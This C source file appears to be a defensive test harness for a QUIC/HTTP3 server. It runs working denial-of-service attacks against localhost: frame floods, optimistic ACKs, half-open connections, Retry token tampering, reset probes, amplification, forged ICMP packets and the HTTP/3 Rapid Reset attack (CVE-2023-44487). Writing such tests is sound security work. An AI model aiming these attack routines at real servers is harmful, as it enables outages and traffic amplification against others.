
/*
 *     attacks PORT NAME [COUNT [PATH]]
 *
 * makes an attack on the server at 127.0.0.1:PORT, and prints what came of it,
 * a word and a number on each line.  t/attacks.t knows what these should be.
 */

#include <ngx_config.h>
#include <ngx_core.h>
#include "crypto/quic_random.h"
#include "attacks.h"


#define ATTACK_FORGED   0x7f030001      /* the system believes the forgery */
#define ATTACK_FRAMES   1100            /* bytes of them in a packet */
#define ATTACK_BURST    16              /* packets until answers are read */
#define ATTACK_PIECES   64
#define ATTACK_STRAYS   300             /* until one is answered */
#define ATTACK_STRAY_SIZE  100


const char  *attack_path;

static int  attack_port;


void
attack_report(const char *word, uint64_t n)
{
    printf("%s %llu\n", word, (unsigned long long) n);
}


void
attack_report_close(client_t *c)
{
    attack_report("closed", c->close.n != 0);
    attack_report("app", c->close.app);
    attack_report("error", c->close.error);
}


void
attack_fail(const char *what)
{
    fprintf(stderr, "%s\n", what);
    exit(1);
}


client_t *
attack_client(client_conf_t *conf, client_state_e state)
{
    client_t       *c;
    client_conf_t   zero;

    if (conf == NULL) {
        ngx_memzero(&zero, sizeof(client_conf_t));
        conf = &zero;
    }

    c = attack_create(conf);

    if (client_connect(c, state) != NGX_OK) {
        attack_fail("no connection");
    }

    return c;
}


client_t *
attack_create(client_conf_t *conf)
{
    client_t  *c;

    conf->port = attack_port;
    conf->addr = conf->addr ? conf->addr : ATTACK_ADDR;
    conf->trace = getenv("TRACE") != NULL;

    c = client_create(conf);

    if (c == NULL) {
        attack_fail("no client");
    }

    return c;
}


void
attack_end(client_t *c)
{
    (void) client_send_hex(c, QUIC_PACKET_1RTT, "1c 00 00 00");

    client_free(c);
}


ngx_int_t
attack_put(client_t *c, const u_char *frames, size_t len, ngx_uint_t i)
{
    if (client_send(c, QUIC_PACKET_1RTT, frames, len) != NGX_OK) {
        attack_fail("a packet can't be sent");
    }

    if (i % ATTACK_BURST == 0) {
        (void) client_wait(c, client_is_closed, 1);
    }

    return c->close.n ? NGX_DONE : NGX_OK;
}


/* ACKs come for every second packet */

static ngx_uint_t
attack_is_read(client_t *c)
{
    return c->close.n || c->space[2].largest_acked + 2 >= c->space[2].next_pn;
}


/*
 * How much it takes until the server has had enough is no matter of its turns
 * on the processor: it's waited for.
 */

static ngx_int_t
attack_put_in_turn(client_t *c, const u_char *frames, size_t len)
{
    if (attack_put(c, frames, len, 1) == NGX_OK) {
        (void) client_wait(c, attack_is_read, CLIENT_TIMEOUT);
    }

    return c->close.n ? NGX_DONE : NGX_OK;
}


/* n packets full of a frame */

static void
attack_flood(client_t *c, const char *frame, ngx_uint_t n)
{
    size_t      len, frame_len;
    u_char      frames[ATTACK_FRAMES + 64];
    ngx_uint_t  i;

    len = 0;

    do {
        frame_len = client_hex(frames + len, frame);
        len += frame_len;
    } while (len + frame_len <= ATTACK_FRAMES);

    for (i = 0; i < n; i++) {
        if (attack_put(c, frames, len, i) != NGX_OK) {
            break;
        }
    }

    (void) client_ping(c);

    attack_report("packets", i);
    attack_report("frames", i * (len / frame_len));
    attack_report_close(c);
    attack_report("received", c->received_bytes);
}


/* 1: the server may not answer, as nothing is acknowledged */

static void
attack_path_challenge(ngx_uint_t n)
{
    u_char         frame[9];
    client_t      *c;
    ngx_uint_t     i;
    client_conf_t  conf;

    ngx_memzero(&conf, sizeof(client_conf_t));
    conf.no_ack = 1;

    c = attack_client(&conf, CLIENT_ESTABLISHED);

    frame[0] = QUIC_FT_PATH_CHALLENGE;

    for (i = 0; i < n; i++) {
        quic_random(frame + 1, 8);

        if (attack_put(c, frame, sizeof(frame), i) != NGX_OK) {
            break;
        }
    }

    (void) client_ping(c);

    attack_report("packets", i);

    (void) client_wait(c, client_is_closed, 1500);

    attack_report("responses", c->frames[QUIC_FT_PATH_RESPONSE]);
    attack_report("repeated", c->path_repeated);
    attack_report_close(c);
    attack_end(c);
}


/* 2: what is retired is never acknowledged */

static void
attack_retire_prior_to(ngx_uint_t n)
{
    u_char         frame[64], *p;
    client_t      *c;
    ngx_uint_t     i;
    client_conf_t  conf;

    ngx_memzero(&conf, sizeof(client_conf_t));
    conf.no_ack = 1;

    c = attack_client(&conf, CLIENT_ESTABLISHED);

    for (i = 1; i <= n; i++) {
        p = frame;
        *p++ = QUIC_FT_NEW_CONNECTION_ID;
        p = quic_varint_write(p, i);
        p = quic_varint_write(p, i);
        *p++ = 8;
        quic_random(p, 8 + QUIC_RESET_TOKEN_LEN);
        p += 8 + QUIC_RESET_TOKEN_LEN;

        if (attack_put_in_turn(c, frame, p - frame) != NGX_OK) {
            break;
        }
    }

    (void) client_ping(c);

    attack_report("packets", i);
    attack_report_close(c);
    attack_end(c);
}


static ngx_uint_t
attack_has_cid(client_t *c)
{
    return c->close.n || c->ncids >= c->want;
}


/*
 * 3: each connection ID is used once, and then retired by a packet to the
 * first, from one address and the other, fewer than QUIC_MOVES times
 */

static void
attack_retire_cid(ngx_uint_t n)
{
    u_char                 frame[16], *p;
    client_t              *c;
    ngx_uint_t             i;
    client_packet_t        ping;
    quic_frame_new_cid_t  *last;

    c = attack_client(NULL, CLIENT_ESTABLISHED);

    for (i = 0; i < n; i++) {
        c->want = i + 1;

        if (client_wait(c, attack_has_cid, CLIENT_TIMEOUT) != NGX_OK
            || c->close.n)
        {
            break;
        }

        last = &c->cids[(c->ncids - 1) % CLIENT_CIDS];

        if (i % 40 == 39) {
            (void) client_rebind(c, ATTACK_ADDR + i / 40 % 2);
        }

        client_packet(c, &ping, QUIC_PACKET_1RTT);
        ping.dcid = last->cid;
        (void) client_add(c, &ping, (u_char *) "\1", 1);
        client_flush(c);

        p = frame;
        *p++ = QUIC_FT_RETIRE_CONNECTION_ID;
        p = quic_varint_write(p, last->seq);

        if (client_send(c, QUIC_PACKET_1RTT, frame, p - frame) != NGX_OK) {
            attack_fail("a packet can't be sent");
        }
    }

    attack_report("retired", i);
    attack_report("issued", c->ncids);
    attack_report_close(c);
    attack_report("alive", client_goes_on(c) == NGX_OK);
    attack_end(c);
}


/* 4: everything is acknowledged up to a number that may have been sent */

static void
attack_optimistic_ack(ngx_uint_t n)
{
    u_char         frame[64], *p;
    client_t      *c;
    ngx_uint_t     i;
    client_conf_t  conf;

    ngx_memzero(&conf, sizeof(client_conf_t));
    conf.no_ack = 1;

    c = attack_client(&conf, CLIENT_ESTABLISHED);
    (void) client_get(c, "/big");

    for (i = 0; i < n && !c->close.n; i++) {
        (void) client_wait(c, client_is_closed, 1);

        p = frame;
        *p++ = QUIC_FT_ACK;
        p = quic_varint_write(p, c->space[2].largest);
        *p++ = 0;
        *p++ = 0;
        p = quic_varint_write(p, c->space[2].largest);

        (void) client_send(c, QUIC_PACKET_1RTT, frame, p - frame);
    }

    attack_report("acks", i);
    attack_report("received", c->received_bytes);
    attack_report_close(c);
    attack_end(c);
}


/* 7: every second byte of CRYPTO data, after the handshake */

static void
attack_crypto_sparse(ngx_uint_t n)
{
    u_char       frames[ATTACK_FRAMES + 16], *p;
    client_t    *c;
    ngx_uint_t   i;

    c = attack_client(NULL, CLIENT_ESTABLISHED);

    p = frames;

    for (i = 0; i < n && !c->close.n; i++) {
        p = client_write_crypto(p, 2 * i + 1, (u_char *) "", 1);

        if (i % 16 == 15) {
            (void) attack_put_in_turn(c, frames, p - frames);
            p = frames;
        }
    }

    (void) client_ping(c);

    attack_report("pieces", i);
    attack_report_close(c);
    attack_end(c);
}


/* ... and a message that doesn't end */

static void
attack_crypto_endless(ngx_uint_t n)
{
    u_char       frames[ATTACK_FRAMES], data[1000], *p;
    client_t    *c;
    uint64_t     i;

    c = attack_client(NULL, CLIENT_ESTABLISHED);

    ngx_memzero(data, sizeof(data));
    ngx_memcpy(data, "\4\377\377\377", 4);

    for (i = 0; i < n; i++) {
        p = client_write_crypto(frames, i * sizeof(data), data, sizeof(data));
        ngx_memzero(data, 4);

        if (attack_put_in_turn(c, frames, p - frames) != NGX_OK) {
            break;
        }
    }

    attack_report("bytes", i * sizeof(data));
    attack_report_close(c);
    attack_end(c);
}


/*
 * 8: a ClientHello in pieces that overlap, in any order, with holes until the
 * last one
 */

static ngx_uint_t
attack_permuted_hello(void)
{
    size_t            len, from, to;
    u_char            frames[ATTACK_FRAMES], *p, random[3];
    client_t         *c;
    ngx_uint_t        i, ok;
    client_conf_t     conf;
    client_crypto_t  *crypto;

    ngx_memzero(&conf, sizeof(client_conf_t));

    c = attack_client(&conf, CLIENT_NEW);
    c->hold = 1;

    crypto = &c->crypto[QUIC_LEVEL_INITIAL];
    len = crypto->len;
    p = frames;

    for (i = 0; i < ATTACK_PIECES; i++) {
        quic_random(random, 3);

        from = (random[0] << 8 | random[1]) % len;
        to = ngx_min(from + 1 + random[2] % 20, len);

        p = client_write_crypto(p, from, crypto->out + from, to - from);

        if (p - frames > 900) {
            (void) client_send(c, QUIC_PACKET_INITIAL, frames, p - frames);
            p = frames;
        }
    }

    (void) client_send(c, QUIC_PACKET_INITIAL, frames, p - frames);

    ok = client_goes_on(c) == NGX_OK;

    attack_end(c);

    return ok;
}


static void
attack_crypto_permuted(ngx_uint_t n)
{
    ngx_uint_t  i, ok;

    ok = 0;

    for (i = 0; i < n; i++) {
        ok += attack_permuted_hello();
    }

    attack_report("connections", n);
    attack_report("established", ok);
}


static ngx_uint_t
attack_is_answered(client_t *c)
{
    return c->packets[QUIC_PACKET_RETRY] || c->packets[QUIC_PACKET_INITIAL];
}


/*
 * 9: connections that are begun and not gone on with; 10: with connection IDs
 * that are much alike
 */

static void
attack_begin(ngx_uint_t n, ngx_uint_t alike)
{
    client_t    *c;
    ngx_uint_t   i, retries, answers;

    retries = 0;
    answers = 0;

    for (i = 0; i < n; i++) {
        c = attack_client(NULL, CLIENT_NEW);

        if (alike) {
            ngx_memset(c->dcid.data, 0x55, c->dcid.len);
            c->dcid.data[6] = (u_char) (i >> 8);
            c->dcid.data[7] = (u_char) i;

            quic_keys_clear(&c->tx[QUIC_LEVEL_INITIAL]);
            quic_keys_clear(&c->rx[QUIC_LEVEL_INITIAL]);
            (void) quic_keys_initial(&c->tx[QUIC_LEVEL_INITIAL],
                                     &c->rx[QUIC_LEVEL_INITIAL], c->version,
                                     c->dcid.data, c->dcid.len);
        }

        c->hold = 1;
        (void) client_send_hex(c, QUIC_PACKET_INITIAL, "01");

        /* the last ones want to know what has become of the server */

        (void) client_wait(c, attack_is_answered,
                           i + 20 < n ? i % 4 == 0 : 200);

        retries += c->packets[QUIC_PACKET_RETRY];
        answers += c->packets[QUIC_PACKET_INITIAL];

        client_free(c);
    }

    attack_report("connections", n);
    attack_report("answers", answers);
    attack_report("retries", retries);
}


static void
attack_half_open(ngx_uint_t n)
{
    attack_begin(n, 0);
}


static void
attack_alike(ngx_uint_t n)
{
    attack_begin(n, 1);
}


/* 10: two clients that have chosen the same */

static void
attack_same_dcid(ngx_uint_t n)
{
    client_t       *a, *b;
    ngx_uint_t      ok;
    client_conf_t   conf;

    ngx_memzero(&conf, sizeof(client_conf_t));
    conf.addr = ATTACK_ADDR + 1;

    a = attack_client(NULL, CLIENT_INITIAL);
    b = attack_client(&conf, CLIENT_NEW);

    b->dcid = a->odcid;
    quic_keys_clear(&b->tx[QUIC_LEVEL_INITIAL]);
    quic_keys_clear(&b->rx[QUIC_LEVEL_INITIAL]);
    (void) quic_keys_initial(&b->tx[QUIC_LEVEL_INITIAL],
                             &b->rx[QUIC_LEVEL_INITIAL], b->version,
                             b->dcid.data, b->dcid.len);

    (void) client_send_crypto(b, QUIC_LEVEL_INITIAL, 0,
                              b->crypto[QUIC_LEVEL_INITIAL].len);
    (void) client_wait(b, client_never, 200);

    ok = client_goes_on(a) == NGX_OK;

    attack_report("first", ok);
    attack_report("second", b->datagrams);
    client_free(b);
    attack_end(a);
}


/* 12 and 28: a token of a Retry packet, spoilt in all ways */

static ngx_uint_t
attack_answered(client_t *c)
{
    return c->datagrams > c->want;
}


/*
 * What the server makes of the token: 0: a Retry, 1: it's refused, 2: it's
 * taken, 3: nothing at all
 */

static ngx_uint_t
attack_token(client_t *c, ngx_uint_t elsewhere, u_char *token, size_t len)
{
    client_t         *d;
    ngx_uint_t        result;
    client_conf_t     conf;

    ngx_memzero(&conf, sizeof(client_conf_t));
    conf.addr = ATTACK_ADDR + elsewhere;

    d = attack_client(&conf, CLIENT_NEW);

    if (!elsewhere && dup2(c->fd, d->fd) == -1) {
        attack_fail("dup2");
    }

    d->dcid = c->dcid;
    d->token.data = token;
    d->token.len = len;
    d->hold = 1;

    quic_keys_clear(&d->tx[QUIC_LEVEL_INITIAL]);
    quic_keys_clear(&d->rx[QUIC_LEVEL_INITIAL]);
    (void) quic_keys_initial(&d->tx[QUIC_LEVEL_INITIAL],
                             &d->rx[QUIC_LEVEL_INITIAL], d->version,
                             d->dcid.data, d->dcid.len);

    (void) client_send_hex(d, QUIC_PACKET_INITIAL, "01");
    (void) client_wait(d, attack_answered, CLIENT_TIMEOUT);

    if (d->packets[QUIC_PACKET_RETRY]) {
        result = 0;

    } else if (d->close.n) {
        result = d->close.error == QUIC_INVALID_TOKEN ? 1 : 3;

    } else {
        result = d->frames[QUIC_FT_ACK] ? 2 : 3;
    }

    client_free(d);

    return result;
}


static void
attack_tokens(ngx_uint_t n)
{
    u_char       token[300];
    size_t       i, len;
    client_t    *c;
    ngx_uint_t   results[4];

    c = attack_client(NULL, CLIENT_NEW);
    (void) client_send_crypto(c, QUIC_LEVEL_INITIAL, 0,
                              c->crypto[QUIC_LEVEL_INITIAL].len);
    c->hold = 1;
    (void) client_wait(c, attack_answered, CLIENT_TIMEOUT);

    if (c->token.len == 0) {
        attack_fail("no Retry");
    }

    ngx_memzero(results, sizeof(results));
    len = c->token.len;

    /* cut, longer, and with every byte changed */

    ngx_memset(token, 0, sizeof(token));
    ngx_memcpy(token, c->token.data, len);

    for (i = 1; i < sizeof(token); i++) {
        if (i != len) {
            results[attack_token(c, 0, token, i)]++;
        }
    }

    for (i = 0; i < len; i++) {
        token[i] ^= 1 << (i % 8);
        results[attack_token(c, 0, token, len)]++;
        token[i] ^= 1 << (i % 8);
    }

    attack_report("retries", results[0]);
    attack_report("invalid", results[1]);
    attack_report("taken", results[2]);
    attack_report("silence", results[3]);

    attack_report("elsewhere", attack_token(c, 1, token, len));

    if (n) {
        (void) sleep(n);
        attack_report("late", attack_token(c, 0, token, len));

    } else {
        attack_report("whole",
                      client_connect(c, CLIENT_ESTABLISHED) == NGX_OK);
    }

    attack_end(c);
}


/*
 * 18: packets that look like a connection's, to whatever worker the kernel
 * gives them: nobody may say how this connection could be reset
 */

static void
attack_reset_oracle(ngx_uint_t n)
{
    u_char          data[100];
    client_t       *c, *d;
    ngx_uint_t      i, answers;
    client_conf_t   conf;

    ngx_memzero(&conf, sizeof(client_conf_t));
    conf.addr = ATTACK_ADDR + 1;

    c = attack_client(NULL, CLIENT_ESTABLISHED);
    answers = 0;

    for (i = 0; i < n; i++) {
        d = attack_client(&conf, CLIENT_NEW);

        quic_random(data, sizeof(data));
        data[0] = QUIC_FIXED_BIT;
        ngx_memcpy(data + 1, c->dcid.data, c->dcid.len);

        client_send_raw(d, data, sizeof(data));
        (void) client_wait(d, client_never, 5);
        answers += d->datagrams;

        client_free(d);
    }

    attack_report("answers", answers);
    attack_report("alive", client_goes_on(c) == NGX_OK);
    attack_end(c);
}


static ngx_uint_t
attack_is_reset(client_t *c)
{
    return c->resets != 0;
}


/* a packet that looks like one of the connection's */

static void
attack_send_stray(client_t *c, size_t size)
{
    u_char  data[1500];

    quic_random(data, sizeof(data));
    data[0] = QUIC_FIXED_BIT;
    ngx_memcpy(data + 1, c->dcid.data, c->dcid.len);

    client_send_raw(c, data, size);
}


/*
 * 19: packets for a connection that is gone, n milliseconds after its end at
 * least, and what is answered, echoed
 */

static void
attack_reset_loop(ngx_uint_t n)
{
    size_t       size;
    client_t    *c;
    uint64_t     first, before, longer;
    ngx_uint_t   i;

    c = attack_client(NULL, CLIENT_ESTABLISHED);
    (void) client_send_hex(c, QUIC_PACKET_1RTT, "1c 00 00 00");
    (void) client_wait(c, client_never, n);

    first = c->datagrams;
    longer = 0;

    for (i = 0; i < ATTACK_STRAYS && c->resets == 0; i++) {
        attack_send_stray(c, ATTACK_STRAY_SIZE);
        (void) client_wait(c, attack_is_reset, 100);
    }

    for (size = 17; size < 1500; size += size < 100 ? 1 : 100) {
        before = c->datagrams;
        attack_send_stray(c, size);
        (void) client_wait(c, client_never, 5);

        longer += c->datagrams > before && c->last_size >= size;
    }

    attack_report("answers", c->datagrams - first);
    attack_report("resets", c->resets);
    attack_report("longer", longer);
    client_free(c);
}


/* 26: half a handshake, and then nothing */

static void
attack_amplification(ngx_uint_t n)
{
    client_t  *c;

    c = attack_client(NULL, CLIENT_NEW);
    c->hold = 1;
    (void) client_send_crypto(c, QUIC_LEVEL_INITIAL, 0,
                              c->crypto[QUIC_LEVEL_INITIAL].len);

    /* not even an ACK */

    quic_keys_clear(&c->tx[QUIC_LEVEL_INITIAL]);
    (void) client_wait(c, client_never, n);

    attack_report("sent", c->sent_bytes);
    attack_report("received", c->received_bytes);
    client_free(c);
}


/* ... and a download that is called to another address, which is silent */

static void
attack_amplification_path(ngx_uint_t n)
{
    client_t       *c;
    uint64_t        sent, received;
    client_conf_t   conf;

    ngx_memzero(&conf, sizeof(client_conf_t));

    c = attack_client(&conf, CLIENT_ESTABLISHED);
    (void) client_get(c, "/big");
    (void) client_wait(c, client_never, 5);

    c->conf.no_ack = 1;

    if (client_rebind(c, ATTACK_ADDR + 1) != NGX_OK) {
        attack_fail("no socket");
    }

    sent = c->sent_bytes;
    received = c->received_bytes;

    (void) client_send_hex(c, QUIC_PACKET_1RTT, "01");
    (void) client_wait(c, client_never, n);

    attack_report("sent", c->sent_bytes - sent);
    attack_report("received", c->received_bytes - received);
    attack_end(c);
}


/*
 * 20: a router's word that datagrams from the server to the client are too
 * large for it (RFC 792, RFC 1191), which anybody can send that knows their
 * addresses and ports
 */

static uint16_t
attack_checksum(u_char *p, size_t len)
{
    uint32_t  sum;

    for (sum = 0; len; p += 2, len -= 2) {
        sum += p[0] << 8 | p[1];
    }

    sum = (sum & 0xffff) + (sum >> 16);

    return ~(sum + (sum >> 16)) & 0xffff;
}


static u_char *
attack_write_16(u_char *p, ngx_uint_t n)
{
    *p++ = (u_char) (n >> 8);
    *p++ = (u_char) n;

    return p;
}


static void
attack_forge_icmp(client_t *c, int fd, ngx_uint_t mtu)
{
    size_t              len;
    u_char              icmp[64], *p;
    socklen_t           socklen;
    struct sockaddr_in  client, server;

    socklen = sizeof(struct sockaddr_in);

    if (getsockname(c->fd, (struct sockaddr *) &client, &socklen) == -1
        || getpeername(c->fd, (struct sockaddr *) &server, &socklen) == -1)
    {
        attack_fail("no addresses");
    }

    /* destination unreachable, fragmentation needed, by the next hop's MTU */

    p = ngx_cpymem(icmp, "\3\4\0\0\0\0", 6);
    p = attack_write_16(p, mtu);

    /* the IP and UDP headers of what was too large */

    p = ngx_cpymem(p, "\105\0", 2);
    p = attack_write_16(p, 1228);
    p = ngx_cpymem(p, "\0\0\100\0\100\21\0\0", 8);
    p = ngx_cpymem(p, &server.sin_addr, 4);
    p = ngx_cpymem(p, &client.sin_addr, 4);
    (void) attack_write_16(p - 10, attack_checksum(icmp + 8, 20));

    p = ngx_cpymem(p, &server.sin_port, 2);
    p = ngx_cpymem(p, &client.sin_port, 2);
    p = attack_write_16(p, 1208);
    p = attack_write_16(p, 0);

    len = p - icmp;
    (void) attack_write_16(icmp + 2, attack_checksum(icmp, len));

    server.sin_port = 0;

    if (sendto(fd, icmp, len, 0, (struct sockaddr *) &server, sizeof(server))
        != (ssize_t) len)
    {
        attack_fail("ICMP can't be sent");
    }
}


static void
attack_icmp(ngx_uint_t n)
{
    int               fd;
    client_t         *c;
    uint64_t          bytes, datagrams;
    ngx_uint_t        i;
    client_conf_t     conf;
    client_stream_t  *s;

    static const ngx_uint_t  mtus[] = { 0, 68, 576, 1199, 1227 };

    fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);

    if (fd == -1) {
        attack_report("forged", 0);
        return;
    }

    ngx_memzero(&conf, sizeof(client_conf_t));
    conf.addr = ATTACK_FORGED;

    c = attack_client(&conf, CLIENT_ESTABLISHED);

    for (i = 0; i < n; i++) {
        attack_forge_icmp(c, fd, mtus[i % 5]);
    }

    (void) client_wait(c, client_never, 100);

    bytes = c->received_bytes;
    datagrams = c->datagrams;

    (void) client_get(c, "/large");
    s = client_stream(c, c->want);

    for (i = 0; i < n && !s->fin && !c->close.n; i++) {
        attack_forge_icmp(c, fd, mtus[i % 5]);
        (void) client_wait(c, client_is_answered, 1);
    }

    (void) client_wait(c, client_is_answered, CLIENT_TIMEOUT);

    bytes = c->received_bytes - bytes;
    datagrams = c->datagrams - datagrams;

    attack_report("forged", i);
    attack_report("bytes", bytes);
    attack_report("size", datagrams ? bytes / datagrams : 0);
    attack_report("complete", s->fin);

    (void) close(fd);
    attack_end(c);
}


/* 27: a client that moves before the handshake is confirmed */

static void
attack_early_migration(ngx_uint_t n)
{
    client_t       *c;
    uint64_t        datagrams;

    c = attack_client(NULL, CLIENT_HANDSHAKE);

    if (client_rebind(c, ATTACK_ADDR + 1) != NGX_OK) {
        attack_fail("no socket");
    }

    datagrams = c->datagrams;

    (void) client_send_hex(c, QUIC_PACKET_HANDSHAKE, "01");
    (void) client_wait(c, client_never, n);

    attack_report("answers", c->datagrams - datagrams);
    client_free(c);
}


/* 29: versions that nobody knows */

static void
attack_versions(ngx_uint_t n)
{
    size_t       len;
    u_char       data[1300];
    client_t    *c;
    ngx_uint_t   i;

    c = attack_client(NULL, CLIENT_NEW);
    len = client_hex(data, "c0 1a2a3a4a 08 11*8 08 22*8 00*1177");

    for (i = 0; i < n; i++) {
        client_send_raw(c, data, len);

        if (i % ATTACK_BURST == 0) {
            client_read(c);
        }
    }

    (void) client_wait(c, client_never, 100);

    attack_report("sent", c->sent_bytes);
    attack_report("received", c->received_bytes);
    attack_report("answers", c->packets[QUIC_PACKET_VERSION_NEGOTIATION]);
    client_free(c);
}


/* 30: a key update with each packet that is acknowledged */

static void
attack_key_updates(ngx_uint_t n)
{
    client_t    *c;
    ngx_uint_t   i;

    c = attack_client(NULL, CLIENT_ESTABLISHED);

    for (i = 0; i < n; i++) {
        if (client_update_keys(c) != NGX_OK || client_ping(c) != NGX_OK) {
            break;
        }
    }

    attack_report("updates", i);
    attack_report_close(c);
    attack_end(c);
}


/* 31: frames that cost their sender a few bytes */

static const char  *attack_cheap[] = {
    "01",                               /* PING */
    "02 00 00 00 00",                   /* ACK, the same again */
    "04 04 00 00",                      /* RESET_STREAM, the same again */
    "05 04 00",                         /* STOP_SENDING */
    "06 00 00",                         /* CRYPTO */
    "0a 08 00",                         /* STREAM without data */
    "10 00",                            /* MAX_DATA */
    "11 08 00",                         /* MAX_STREAM_DATA */
    "12 00",                            /* MAX_STREAMS */
    "14 00",                            /* DATA_BLOCKED */
    "15 08 00",                         /* STREAM_DATA_BLOCKED */
    "16 00",                            /* STREAMS_BLOCKED */
    "18 01 00 08 11*8 22*16",           /* NEW_CONNECTION_ID */
    "19 01",                            /* RETIRE_CONNECTION_ID */
    "1a 11*8"                           /* PATH_CHALLENGE */
};

#define ATTACK_CHEAP  (sizeof(attack_cheap) / sizeof(attack_cheap[0]))


static void
attack_cheap_frames(ngx_uint_t n)
{
    client_t    *c;
    ngx_uint_t   i;

    for (i = 0; i < ATTACK_CHEAP; i++) {
        c = attack_client(NULL, CLIENT_ESTABLISHED);

        (void) client_send_hex(c, QUIC_PACKET_1RTT, "0a 08 00");
        printf("frame %s\n", attack_cheap[i]);
        attack_flood(c, attack_cheap[i], n);
        attack_report("alive", c->close.n || client_goes_on(c) == NGX_OK);
        attack_end(c);
    }
}


/* 32: every second number */

static void
attack_ack_ranges(ngx_uint_t n)
{
    u_char       ping;
    client_t    *c;
    uint64_t     most;
    ngx_uint_t   i;

    c = attack_client(NULL, CLIENT_ESTABLISHED);
    ping = QUIC_FT_PING;
    most = 0;

    for (i = 0; i < n; i++) {
        c->space[2].next_pn++;

        if (attack_put(c, &ping, 1, i) != NGX_OK) {
            break;
        }

        most = ngx_max(most, c->space[2].ack_ranges);
    }

    attack_report("packets", i);
    attack_report("ranges", most);
    attack_report_close(c);
    attack_report("alive", client_goes_on(c) == NGX_OK);
    attack_end(c);
}


/* 33: every second byte of many streams */

static void
attack_fragments(ngx_uint_t n)
{
    u_char       frames[ATTACK_FRAMES + 32], *p;
    client_t    *c;
    uint64_t     id;
    ngx_uint_t   i, packets;

    c = attack_client(NULL, CLIENT_ESTABLISHED);
    packets = 0;

    for (id = 0; id < 40 && !c->close.n; id += 4) {
        p = frames;

        for (i = 0; i < n; i++) {
            *p++ = QUIC_FT_STREAM|QUIC_STREAM_OFF|QUIC_STREAM_LEN;
            p = quic_varint_write(p, id);
            p = quic_varint_write(p, 2 * i + 1);
            *p++ = 1;
            *p++ = 0x21;

            if (p > frames + ATTACK_FRAMES) {

                if (attack_put(c, frames, p - frames, packets++) != NGX_OK) {
                    break;
                }

                p = frames;
            }
        }
    }

    attack_report("packets", packets);
    attack_report_close(c);
    attack_report("alive", client_goes_on(c) == NGX_OK);

    /* for a look at the memory */

    (void) client_wait(c, client_never, 500);
    attack_end(c);
}


/* 24, CVE-2023-44487: requests that are cancelled at once */

static void
attack_rapid_reset(ngx_uint_t n)
{
    u_char       frames[128];
    size_t       len;
    client_t    *c;
    uint64_t     id;
    ngx_uint_t   i;

    /* HEADERS: GET https://localhost/ */

    static const char  headers[] =
        "01 10 00 00 d1 d7 c1 50 09 6c 6f 63 61 6c 68 6f 73 74";

    c = attack_client(NULL, CLIENT_ESTABLISHED);

    for (i = 0; i < n && !c->close.n; i++) {
        id = 4 * i;

        while (i >= ngx_max(c->max_streams_bidi,
                            c->peer.initial_max_streams_bidi)
               && !c->close.n)
        {
            (void) client_wait(c, client_is_closed, 1);
        }

        frames[0] = QUIC_FT_STREAM|QUIC_STREAM_LEN;
        len = quic_varint_write(frames + 1, id) - frames;
        frames[len] = 18;
        len += 1 + client_hex(frames + len + 1, headers);

        frames[len] = QUIC_FT_RESET_STREAM;
        len = quic_varint_write(frames + len + 1, id) - frames;
        len += client_hex(frames + len, "41 0c 12");

        frames[len] = QUIC_FT_STOP_SENDING;
        len = quic_varint_write(frames + len + 1, id) - frames;
        len += client_hex(frames + len, "41 0c");

        (void) attack_put(c, frames, len, i);
    }

    (void) client_ping(c);

    attack_report("requests", i);
    attack_report_close(c);
    attack_end(c);
}


static const attack_t  attacks[] = {
    { "path_challenge", 20000, attack_path_challenge },
    { "retire_prior_to", 1000, attack_retire_prior_to },
    { "retire_cid", 1000, attack_retire_cid },
    { "optimistic_ack", 10000, attack_optimistic_ack },
    { "crypto_sparse", 10000, attack_crypto_sparse },
    { "crypto_endless", 1000, attack_crypto_endless },
    { "crypto_permuted", 200, attack_crypto_permuted },
    { "half_open", 6000, attack_half_open },
    { "alike", 2000, attack_alike },
    { "same_dcid", 1, attack_same_dcid },
    { "tokens", 0, attack_tokens },
    { "reset_oracle", 100, attack_reset_oracle },
    { "reset_loop", 2000, attack_reset_loop },
    { "amplification", 4000, attack_amplification },
    { "amplification_path", 2000, attack_amplification_path },
    { "icmp", 100, attack_icmp },
    { "early_migration", 500, attack_early_migration },
    { "versions", 50000, attack_versions },
    { "key_updates", 100, attack_key_updates },
    { "cheap_frames", 2000, attack_cheap_frames },
    { "ack_ranges", 3000, attack_ack_ranges },
    { "fragments", 20000, attack_fragments },
    { "rapid_reset", 20000, attack_rapid_reset },
    { NULL, 0, NULL }
};


static void
attack_run(const attack_t *a, const char *name, const char *count)
{
    for ( /* void */ ; a->name; a++) {

        if (strcmp(a->name, name) == 0) {
            a->run(count ? strtoul(count, NULL, 10) : a->count);
            exit(0);
        }
    }
}


int
main(int argc, char **argv)
{
    if (argc < 3) {
        fprintf(stderr, "usage: attacks PORT NAME [COUNT [PATH]]\n");
        return 2;
    }

    attack_port = atoi(argv[1]);
    attack_path = argc > 4 ? argv[4] : "/";

    attack_run(attacks, argv[2], argv[3]);
    attack_run(attacks_h3, argv[2], argv[3]);

    fprintf(stderr, "no attack %s\n", argv[2]);

    return 2;
}
